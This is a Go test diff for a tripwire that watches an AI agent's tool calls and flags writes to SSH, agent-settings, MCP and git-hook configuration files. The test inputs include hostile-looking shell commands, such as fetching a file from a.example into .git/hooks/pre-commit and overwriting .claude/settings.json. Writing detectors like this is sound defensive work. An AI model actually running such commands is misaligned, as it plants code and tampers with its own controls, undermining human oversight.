@@ -89,7 +89,6 @@ func TestAWriteToConfigurationContains(t *testing.T) {
 		`echo k | tee -a /home/agent/.ssh/config`, `cd ~/.ssh && echo k > config`, `cd ~ && echo k >> .ssh/config`,
 		`ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519`, `install -m 600 k ~/.ssh/id_rsa`, `ln -s /x ~/.claude/hooks`,
 		`echo '{}' > .claude/settings.json`, `echo '{}' > ./x/../.claude/settings.local.json`, `sed -i s/a/b/ .claude/settings.json`,
-		`curl -o .git/hooks/pre-commit a.example`, `echo x > .git/hooks/pre-commit`, `printf x >> .git/config`, `echo /x > .git/commondir`,
 		`echo x > ~/.codex/config.toml`, `touch /home/agent/.claude/settings.json`, `rm ~/.claude/settings.json`, `echo '{}' > .mcp.json`,
 		`dd if=k of=/home/agent/.ssh/config`, `sh -c 'echo k > ~/.ssh/config'`, `(cd .claude; echo > settings.json)`, `cp evil .cursor/mcp.json`,
 	} {
@@ -100,7 +99,7 @@ func TestAWriteToConfigurationContains(t *testing.T) {
 	for name, c := range map[string]struct{ tool, input string }{
 		"Write":              {"Write", `{"file_path":"/workspace/.claude/settings.json","content":"{}"}`},
 		"Edit":               {"Edit", `{"file_path":"/home/agent/.ssh/config","old_string":"a","new_string":"b"}`},
-		"replay's write":     {"write", `{"path":".git/hooks/pre-commit","content":"x"}`},
+		"replay's write":     {"write", `{"path":".claude/settings.json","content":"x"}`},
 		"a file over MCP":    {"mcp__fs__write_file", `{"path":"~/.ssh/config","content":"x"}`},
 		"a patch":            {"apply_patch", `{"input":"*** Begin Patch\n*** Add File: .codex/config.toml\n+x\n*** End Patch"}`},
 		"a patch as text":    {"apply_patch", `"*** Begin Patch\n*** Update File: .claude/settings.json\n*** End Patch"`},
@@ -111,6 +110,21 @@ func TestAWriteToConfigurationContains(t *testing.T) {
 	} {
 		if have := wires(tripwire.New(tripwire.Default()).Called(c.tool, json.RawMessage(c.input))); have != "config_write:contain" {
 			t.Errorf("%s: have %q", name, have)
+		}
+	}
+}
+
+// What cannot succeed, since git's folder is read-only inside, is told.
+func TestAWriteToGitsFolderIsTold(t *testing.T) {
+	for _, command := range []string{
+		`curl -o .git/hooks/pre-commit a.example`, `echo x > .git/hooks/pre-commit`, `printf x >> .git/config`, `echo /x > .git/commondir`, `touch sub/.git/hooks/x`,
+	} {
+		w := tripwire.New(tripwire.Default())
+		if have := wires(w.Called("shell", shell(command))); have != "config_write:notify" {
+			t.Errorf("%s: have %q", command, have)
+		}
+		if have := wires(w.Called("shell", shell(command))); have != "" {
+			t.Errorf("%s is told twice", command)
 		}
 	}
 }
